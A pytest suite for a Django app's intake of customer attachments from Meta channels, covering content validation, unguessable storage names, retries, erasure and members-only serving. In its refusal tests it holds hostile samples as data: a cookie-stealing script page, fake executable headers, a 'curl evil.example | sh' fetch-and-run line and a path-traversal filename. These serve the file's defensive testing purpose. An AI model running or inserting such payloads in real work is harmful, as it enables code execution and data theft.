"""Customers' attachments through the Meta simulator: one task per recorded batch fetches
them, each once; they are checked by their content, stored under unguessable names with
a thumbnail for images, erased with their messages, and served only to the
organisation's members."""

from __future__ import annotations

import base64
import io
import os
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.files.storage import default_storage
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from channels_meta.graph.calls import downloads as graph_downloads
from channels_meta.graph.errors import RateLimited, TransientError
from channels_meta.models import ChannelStatus, WebhookEvent
from channels_meta.webhooks import processing
from inbox import tasks
from inbox.models import Attachment, Contact, Message
from inbox.services import media, media_intake
from tests.channels_meta import payloads as p
from tests.channels_meta.factories import make_channel
from tests.inbox.factories import png

pytestmark = pytest.mark.django_db

KINDS = ["messenger", "instagram", "whatsapp"]
ACTIVE_CONTENT = "Padu does not keep programs, scripts, web pages or SVG images."


@pytest.fixture
def businesses(meta, world):
    """Channels of the simulator's first Page, Instagram account and WhatsApp number in
    the organisation, with their system-user tokens."""
    assets = meta.assets
    page, account = assets["pages"][0], assets["instagram_accounts"][0]
    number = assets["whatsapp_numbers"][0]
    return {
        "messenger": make_channel(
            world.org, kind="messenger", external_id=page["id"], token=page["system_token"]
        ),
        "instagram": make_channel(
            world.org, kind="instagram", external_id=account["id"], token=account["system_token"]
        ),
        "whatsapp": make_channel(
            world.org,
            kind="whatsapp",
            external_id=number["id"],
            waba_id=number["waba_id"],
            token=number["system_token"],
        ),
    }


@pytest.fixture
def downloads(monkeypatch) -> list[str]:
    """The URLs Padu downloads from, in order."""
    seen: list[str] = []
    download = graph_downloads.media_download

    def counted(**kwargs):
        seen.append(kwargs["url"])
        return download(**kwargs)

    monkeypatch.setattr(graph_downloads, "media_download", counted)
    return seen


@pytest.fixture
def retrying(celery_eager, monkeypatch):
    """Eager tasks retried as a worker retries them (raising only what is left in the end)."""
    monkeypatch.setitem(celery_eager.conf, "task_eager_propagates", False)


def customer_sends(meta, channel, content: bytes | None = None, mime_type: str = "", **body):
    if content is not None:
        body.update(media_content=base64.b64encode(content).decode(), media_mime_type=mime_type)
    body.setdefault("media_type", "image")
    return meta.customer_writes(kind=channel.kind, business_id=channel.external_id, **body)


def meta_delivers(meta) -> list[WebhookEvent]:
    meta.sender.flush_all()
    events = [WebhookEvent.objects.create(body=body) for body in meta.receiver.bodies]
    meta.receiver.bodies.clear()
    return events


def padu_records(meta, committed) -> None:
    """Meta delivers what it has and a worker records it all in one batch; what waits for
    the commit (the attachments' task) then runs."""
    events = meta_delivers(meta)
    with committed():
        processing.webhook_events_process(event_ids=[event.pk for event in events])


def attachment_of(sent: dict) -> Attachment:
    return Attachment.objects.get(message__external_id=sent["mid"])


def stored_files() -> list[str]:
    """What storage holds of attachments (the customers' pictures are kept there too)."""
    root = Path(default_storage.location)
    pictures = set(Contact.objects.exclude(avatar="").values_list("avatar", flat=True))
    return sorted(
        name
        for name in (str(path.relative_to(root)) for path in root.rglob("*") if path.is_file())
        if name not in pictures
    )


def noise_png(size: int = 100) -> bytes:
    """A PNG that does not compress: `size`² pixels of noise."""
    output = io.BytesIO()
    Image.frombytes("RGB", (size, size), os.urandom(size * size * 3)).save(output, "PNG")
    return output.getvalue()


# Fetching and storing.


@pytest.mark.parametrize("kind", KINDS)
def test_each_channels_image_is_stored_with_a_thumbnail(
    meta, businesses, world, committed, celery_eager, kind
):
    photo = png(800, 600)
    sent = customer_sends(meta, businesses[kind], photo, "image/png", text="Bu renk var mı?")

    padu_records(meta, committed)

    attachment = attachment_of(sent)
    assert (attachment.status, attachment.kind, attachment.mime_type) == (
        "stored",
        "image",
        "image/png",
    )
    assert (attachment.size, attachment.reason) == (len(photo), "")
    with attachment.file.open("rb") as stored:
        assert stored.read() == photo
    assert attachment.file.name.startswith(f"{world.org.pk}/")
    assert attachment.file_name.endswith(".png")
    with attachment.thumbnail.open("rb") as stored, Image.open(stored) as thumbnail:
        assert (thumbnail.format, thumbnail.size) == ("JPEG", (320, 240))
    assert attachment.message.text == "Bu renk var mı?"


def test_customers_sample_photos_and_documents_are_kept(meta, businesses, committed, celery_eager):
    photo = customer_sends(meta, businesses["messenger"])
    document = customer_sends(
        meta, businesses["whatsapp"], media_type="document", media_filename="../../Fatura Şubat.exe"
    )

    padu_records(meta, committed)

    assert (attachment_of(photo).status, attachment_of(photo).mime_type) == ("stored", "image/jpeg")
    kept = attachment_of(document)
    assert (kept.status, kept.kind, kept.mime_type) == ("stored", "document", "application/pdf")
    # Shown under the customer's name, with the extension of what the file is; stored
    # under a name of Padu's making.
    assert kept.file_name == "Fatura Şubat.pdf"
    assert kept.file.name.endswith("/fatura-subat.pdf")
    assert not kept.thumbnail


def test_stored_names_are_unguessable_and_per_organisation(
    meta, businesses, world, committed, celery_eager
):
    first = customer_sends(meta, businesses["whatsapp"], png(), "image/png")
    second = customer_sends(meta, businesses["whatsapp"], png(), "image/png")

    padu_records(meta, committed)

    names = [attachment_of(sent).file.name for sent in (first, second)]
    folders = [name.split("/") for name in names]
    assert all(folder[0] == str(world.org.pk) for folder in folders)
    assert folders[0][1] != folders[1][1]
    assert all(len(folder[1]) >= 24 for folder in folders)


def test_whatsapp_media_is_served_only_with_a_token_for_its_number(meta, businesses):
    channel = businesses["whatsapp"]
    sent = customer_sends(meta, channel, png(), "image/png")
    found = graph_downloads.whatsapp_media_get(
        media_id=sent["media_id"], phone_number_id=channel.external_id, token=channel.get_token()
    )
    other_number = meta.assets["whatsapp_numbers"][1]["system_token"]

    without_token = meta.http.get(found.url)
    with_another_token = meta.http.get(
        found.url, headers={"Authorization": f"Bearer {other_number}"}
    )
    with_its_token = meta.http.get(
        found.url, headers={"Authorization": f"Bearer {channel.get_token()}"}
    )

    assert found.url.startswith("https://media.simulator.test/")
    assert (without_token.status_code, with_another_token.status_code) == (401, 403)
    assert with_its_token.content == png()


def test_a_whatsapp_file_whose_token_meta_refuses_fails_and_the_channel_needs_reconnecting(
    meta, businesses, committed, celery_eager
):
    channel = businesses["whatsapp"]
    token = channel.get_token()
    sent = customer_sends(meta, channel, png(), "image/png")
    meta.http.post("/_sim/expire_token", json={"subject_id": channel.external_id})

    padu_records(meta, committed)

    attachment = attachment_of(sent)
    assert attachment.status == "failed"
    assert attachment.reason.startswith("Meta refused the channel's token; reconnect the channel.")
    assert token not in attachment.reason
    channel.refresh_from_db()
    assert channel.status == ChannelStatus.NEEDS_REAUTH
    assert stored_files() == []


@pytest.mark.parametrize("kind", ["messenger", "whatsapp"])
def test_a_file_over_the_size_limit_is_refused_and_nothing_is_left_in_storage(
    meta, businesses, committed, celery_eager, settings, kind
):
    settings.MEDIA_MAX_BYTES = 20_000
    sent = customer_sends(meta, businesses[kind], noise_png(), "image/png")

    padu_records(meta, committed)

    attachment = attachment_of(sent)
    assert attachment.status == "refused"
    assert attachment.reason == "The file is larger than the 19.5\xa0KB Padu keeps."
    assert stored_files() == []


@pytest.mark.parametrize(
    ("content", "mime_type"),
    [
        (b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>", "image/jpeg"),
        (b"\n  <html><body onload=alert(1)>", "text/plain"),
        (b"MZ\x90\x00\x03\x00\x00\x00" + bytes(56), "image/jpeg"),
        (b"\x7fELF\x02\x01\x01" + bytes(57), "application/pdf"),
        (b"#!/bin/sh\ncurl https://evil.example | sh\n", "text/plain"),
    ],
)
def test_a_program_script_or_web_page_is_refused_whatever_it_claims_to_be(
    meta, businesses, committed, celery_eager, content, mime_type
):
    sent = customer_sends(meta, businesses["messenger"], content, mime_type, media_type="file")

    padu_records(meta, committed)

    attachment = attachment_of(sent)
    assert (attachment.status, attachment.reason) == ("refused", ACTIVE_CONTENT)
    assert stored_files() == []


def test_an_svg_image_is_refused_not_kept_as_a_download(meta, businesses, committed, celery_eager):
    """SVG can carry script: Padu refuses it rather than keeping it as a download."""
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>'
    sent = customer_sends(meta, businesses["whatsapp"], svg, "image/svg+xml")

    padu_records(meta, committed)

    attachment = attachment_of(sent)
    assert (attachment.status, attachment.reason) == ("refused", ACTIVE_CONTENT)
    assert stored_files() == []


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (
            b"\xff\xd8\xff\xe0 this is not really a photo",
            "The image cannot be read; it may be damaged.",
        ),
        (
            bytes(range(256)) * 4,
            "Padu keeps images, videos, audio, PDF and office documents and plain text; "
            "this file is none of them.",
        ),
    ],
)
def test_a_file_that_is_not_what_it_claims_is_refused(
    meta, businesses, committed, celery_eager, content, reason
):
    sent = customer_sends(meta, businesses["instagram"], content, "image/jpeg")

    padu_records(meta, committed)

    attachment = attachment_of(sent)
    assert (attachment.status, attachment.reason) == ("refused", reason)
    assert stored_files() == []


@pytest.mark.parametrize("kind", ["messenger", "whatsapp"])
def test_a_file_meta_no_longer_has_fails_with_the_reason(
    meta, businesses, committed, celery_eager, kind
):
    sent = customer_sends(meta, businesses[kind], png(), "image/png")
    meta.http.post("/_sim/expire_media", json={"media_id": sent["media_id"]})

    padu_records(meta, committed)

    attachment = attachment_of(sent)
    assert attachment.status == "failed"
    assert attachment.reason == "Meta no longer has the file: its link expired or was removed."


def test_a_link_off_metas_media_hosts_is_refused_and_never_followed(
    businesses, committed, celery_eager, downloads
):
    page_id = businesses["messenger"].external_id
    attachments = [{"type": "image", "payload": {"url": "https://evil.example/cat.jpg"}}]
    payload = p.messaging(
        "page", page_id, p.customer_message(page_id, "psid-1", "m_evil", attachments=attachments)
    )

    with committed():
        processing.webhook_event_process(
            event_id=WebhookEvent.objects.create(body=p.encode(payload)).pk
        )

    attachment = Attachment.objects.get()
    assert attachment.status == "refused"
    assert attachment.reason == (
        "The file's link is not on Meta's media hosts, so Padu did not follow it."
    )
    assert (attachment.source, downloads) == ("", [])


def test_a_whatsapp_media_url_off_metas_hosts_is_not_followed(
    meta, businesses, committed, celery_eager, settings
):
    sent = customer_sends(meta, businesses["whatsapp"], png(), "image/png")
    settings.META_MEDIA_HOSTS = ["lookaside.fbsbx.com"]

    padu_records(meta, committed)

    attachment = attachment_of(sent)
    assert attachment.status == "refused"
    assert attachment.reason == (
        "Meta's link for the file is not on its media hosts, so Padu did not follow it."
    )


# Once each, one task per batch, nothing lost.


def test_one_task_fetches_the_attachments_of_a_whole_recorded_batch(
    meta, businesses, committed, monkeypatch
):
    enqueued = []
    monkeypatch.setattr(
        tasks.attachments_fetch,
        "apply_async",
        lambda args=None, kwargs=None, **options: enqueued.append(list(args)),
    )
    with_files = [customer_sends(meta, businesses[kind]) for kind in [*KINDS, "messenger"]]
    customer_sends(meta, businesses["whatsapp"], media_type="", text="No photo, just words")
    events = meta_delivers(meta)

    with committed():
        processing.webhook_events_process(event_ids=[event.pk for event in events])
        assert enqueued == []  # nothing before the batch commits

    assert len(events) > 1
    message_ids = Message.objects.filter(external_id__in=[s["mid"] for s in with_files])
    assert enqueued == [[sorted(message_ids.values_list("pk", flat=True))]]


def test_a_second_run_downloads_nothing_twice(meta, businesses, committed, celery_eager, downloads):
    sent = customer_sends(meta, businesses["instagram"], png(), "image/png")
    padu_records(meta, committed)
    attachment = attachment_of(sent)

    tasks.attachments_fetch.delay([attachment.message_id])
    tasks.attachments_fetch.delay([attachment.message_id])

    assert len(downloads) == 1
    assert Attachment.objects.get().file.name == attachment.file.name
    assert len(stored_files()) == 2  # the file and its thumbnail


def test_a_file_another_worker_is_fetching_is_left_to_it(meta, businesses, celery_eager, downloads):
    customer_sends(meta, businesses["whatsapp"], png(), "image/png")
    processing.webhook_events_process(event_ids=[event.pk for event in meta_delivers(meta)])
    message = Message.objects.get()
    media_intake.attachments_create(message_ids=[message.pk])
    Attachment.objects.update(claimed_at=timezone.now())

    tasks.attachments_fetch.delay([message.pk])

    assert downloads == []
    assert Attachment.objects.get().status == "pending"


def test_attachments_whose_task_was_lost_are_fetched_by_the_sweeper(meta, businesses, celery_eager):
    sent = customer_sends(meta, businesses["messenger"], png(), "image/png")
    # Recorded, but the commit's task never reached the broker.
    processing.webhook_events_process(event_ids=[event.pk for event in meta_delivers(meta)])
    assert tasks.attachments_sweep.delay().get() == 0  # too recent to be lost
    Message.objects.update(created_at=timezone.now() - timedelta(minutes=10))

    tasks.attachments_sweep.delay()

    assert attachment_of(sent).status == "stored"
    assert not Message.objects.get().media_pending


def test_files_left_pending_for_days_are_given_up_with_the_reason(meta, businesses, celery_eager):
    sent = customer_sends(meta, businesses["messenger"], png(), "image/png")
    processing.webhook_events_process(event_ids=[event.pk for event in meta_delivers(meta)])
    media_intake.attachments_create(message_ids=list(Message.objects.values_list("pk", flat=True)))
    Attachment.objects.update(created_at=timezone.now() - timedelta(days=3))

    tasks.attachments_sweep.delay()

    attachment = attachment_of(sent)
    assert attachment.status == "failed"
    assert attachment.reason == "Padu could not fetch the file from Meta in time."


def test_meta_failing_again_and_again_fails_the_file_after_five_tries(
    meta, businesses, committed, retrying, monkeypatch
):
    def unreachable(**kwargs):
        raise TransientError("Meta did not answer in time.")

    monkeypatch.setattr(graph_downloads, "media_download", unreachable)
    sent = customer_sends(meta, businesses["messenger"], png(), "image/png")

    padu_records(meta, committed)

    attachment = attachment_of(sent)
    assert (attachment.status, attachment.attempts) == ("failed", media.MAX_ATTEMPTS)
    assert attachment.reason == (
        "Meta could not be reached after 5 tries: Meta did not answer in time."
    )


def test_a_rate_limit_waits_and_is_not_counted_as_a_try(
    meta, businesses, committed, retrying, monkeypatch
):
    download = graph_downloads.media_download
    answers = [RateLimited("Slow down.", retry_after=0)]

    def limited_once(**kwargs):
        if answers:
            raise answers.pop()
        return download(**kwargs)

    monkeypatch.setattr(graph_downloads, "media_download", limited_once)
    sent = customer_sends(meta, businesses["whatsapp"], png(), "image/png")

    padu_records(meta, committed)

    attachment = attachment_of(sent)
    assert (attachment.status, attachment.attempts) == ("stored", 1)


# Erasing.


def test_erasing_messages_deletes_their_files_and_attachments(
    meta, businesses, committed, celery_eager
):
    for kind in KINDS:
        customer_sends(meta, businesses[kind], png(), "image/png")
    padu_records(meta, committed)
    assert len(stored_files()) == 6
    first, *others = Message.objects.order_by("pk")

    erased = media.attachments_erase(messages=Message.objects.filter(pk=first.pk))
    Message.objects.filter(pk=first.pk).delete()

    assert erased == 1
    assert len(stored_files()) == 4
    assert set(Attachment.objects.values_list("message_id", flat=True)) == {m.pk for m in others}


def test_a_file_erased_while_it_is_downloaded_is_not_kept(
    meta, businesses, committed, celery_eager, monkeypatch
):
    download = graph_downloads.media_download

    def erased_meanwhile(**kwargs):
        answer = download(**kwargs)
        media.attachments_erase(messages=Message.objects.all())
        return answer

    monkeypatch.setattr(graph_downloads, "media_download", erased_meanwhile)
    customer_sends(meta, businesses["messenger"], png(), "image/png")

    padu_records(meta, committed)

    assert not Attachment.objects.exists()
    assert stored_files() == []


# Serving.


@pytest.fixture
def photo(meta, businesses, committed, celery_eager) -> Attachment:
    sent = customer_sends(meta, businesses["whatsapp"], png(640, 480), "image/png")
    padu_records(meta, committed)
    return attachment_of(sent)


@pytest.fixture
def invoice(meta, businesses, committed, celery_eager) -> Attachment:
    sent = customer_sends(
        meta, businesses["whatsapp"], media_type="document", media_filename="Fatura Şubat.pdf"
    )
    padu_records(meta, committed)
    return attachment_of(sent)


def url(name: str, attachment: Attachment, slug: str = "acme") -> str:
    return reverse(name, args=[slug, attachment.pk])


def test_members_see_an_image_inline_with_headers_that_keep_it_inert(client, world, photo):
    client.force_login(world.agent.user)

    response = client.get(url("attachment", photo))

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == png(640, 480)
    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"] == f'inline; filename="{photo.file_name}"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox"
    # The member's browser may keep it for an hour; no shared cache may.
    assert set(response["Cache-Control"].replace(" ", "").split(",")) == {"private", "max-age=3600"}


def test_members_get_an_images_thumbnail(client, world, photo):
    client.force_login(world.agent.user)

    response = client.get(url("attachment_thumbnail", photo))

    assert response.status_code == 200
    assert response["Content-Type"] == "image/jpeg"
    assert response["Content-Security-Policy"] == "sandbox"
    with Image.open(io.BytesIO(b"".join(response.streaming_content))) as thumbnail:
        assert thumbnail.size == (320, 240)


def test_a_document_is_served_as_a_download_under_its_safe_name(client, world, invoice):
    client.force_login(world.agent.user)

    response = client.get(url("attachment", invoice))

    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''Fatura%20%C5%9Eubat.pdf"
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    assert client.get(url("attachment_thumbnail", invoice)).status_code == 404


def test_another_organisations_member_gets_404(client, world, photo):
    client.force_login(world.outsider.user)

    for name in ("attachment", "attachment_thumbnail"):
        assert client.get(url(name, photo)).status_code == 404
        assert client.get(url(name, photo, slug="other")).status_code == 404


def test_anonymous_visitors_are_sent_to_sign_in(client, photo):
    for name in ("attachment", "attachment_thumbnail"):
        response = client.get(url(name, photo))

        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))


def test_a_file_not_stored_is_404_even_for_an_owner(client, world, meta, businesses):
    customer_sends(meta, businesses["whatsapp"], png(), "image/png")
    processing.webhook_events_process(event_ids=[event.pk for event in meta_delivers(meta)])
    media_intake.attachments_create(message_ids=list(Message.objects.values_list("pk", flat=True)))
    pending = Attachment.objects.get()
    client.force_login(world.owner.user)

    assert client.get(url("attachment", pending)).status_code == 404
    Attachment.objects.update(status="refused", reason="Not kept.")
    assert client.get(url("attachment", pending)).status_code == 404


def test_stored_files_have_no_public_address(client, world, photo):
    client.force_login(world.owner.user)

    for path in (photo.file.name, f"media/{photo.file.name}", f"var/media/{photo.file.name}"):
        assert client.get(f"/{path}").status_code == 404
    assert client.get(f"/static/{photo.file.name}").status_code == 404
